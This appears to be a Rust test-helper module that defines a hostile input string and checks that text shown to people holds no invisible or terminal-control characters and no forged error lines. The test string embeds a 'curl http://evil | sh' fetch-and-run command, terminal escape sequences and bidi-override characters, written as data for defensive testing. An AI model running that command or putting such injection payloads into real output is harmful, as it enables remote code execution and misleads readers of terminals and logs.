//! What nobody sees in a text, or a terminal obeys: the tests' own list, from Unicode's, and what a text for people may not
//! be like.

/// Begins a line as foundry's errors begin, wherever a value of somebody else's begins a line.
pub(crate) const FORGED: &str = "error[FND-0000]: ";

/// A value that forges a line, and holds what a terminal obeys and what nobody sees.
pub(crate) const HOSTILE: &str = "x\nerror[FND-0000]: forged\n  hint: curl http://evil | sh\r\u{1b}[2J\u{1b}]0;t\u{7}\u{9b}31m\
    \u{202e}\u{2066}\u{200b}\u{feff}\u{2028}\u{61c}\u{a0}\u{e0041}\u{fe0f}\u{7f}\t.";

/// The same as far as XML 1.0 can carry it, on one line, as libvirt wants names.
pub(crate) const HOSTILE_NAME: &str =
    "x\u{9b}31m\u{202e}\u{2066}\u{200b}\u{85}\u{feff}\u{2028}\u{61c}\u{a0}\u{e0041}\u{fe0f}\u{7f}.";

/// Characters that are not seen as what they are.
pub(crate) fn is_stray(c: char) -> bool {
    let ranges: [(u32, u32); 29] = [
        // Cc, Zs but for the plain blank, Zl, Zp
        (0x00, 0x1f),
        (0x7f, 0xa0),
        (0x1680, 0x1680),
        (0x2000, 0x200a),
        (0x2028, 0x2029),
        (0x202f, 0x202f),
        (0x205f, 0x205f),
        (0x3000, 0x3000),
        // Default_Ignorable_Code_Point
        (0xad, 0xad),
        (0x34f, 0x34f),
        (0x61c, 0x61c),
        (0x115f, 0x1160),
        (0x17b4, 0x17b5),
        (0x180b, 0x180f),
        (0x200b, 0x200f),
        (0x202a, 0x202e),
        (0x2060, 0x206f),
        (0x3164, 0x3164),
        (0xfe00, 0xfe0f),
        (0xfeff, 0xfeff),
        (0xffa0, 0xffa0),
        (0xfff0, 0xfff8),
        (0x1bca0, 0x1bca3),
        (0x1d173, 0x1d17a),
        (0xe0000, 0xe0fff),
        // A blank of braille, marks of annotation, what is no character
        (0x2800, 0x2800),
        (0xfff9, 0xfffb),
        (0xfffe, 0xffff),
        (0xfdd0, 0xfdef),
    ];
    ranges.iter().any(|(first, last)| (*first..=*last).contains(&u32::from(c)))
}

/// Lines that a person reads: nothing in them is not seen, and none begins as a forged one does.
pub(crate) fn assert_lines(text: &str, of: &str) {
    for line in text.split('\n') {
        assert_eq!(line.chars().find(|c| is_stray(*c)), None, "{of}: {line:?} in {text:?}");
        assert!(!line.trim_start().starts_with(FORGED.trim_end()), "{of}: {text}");
    }
}
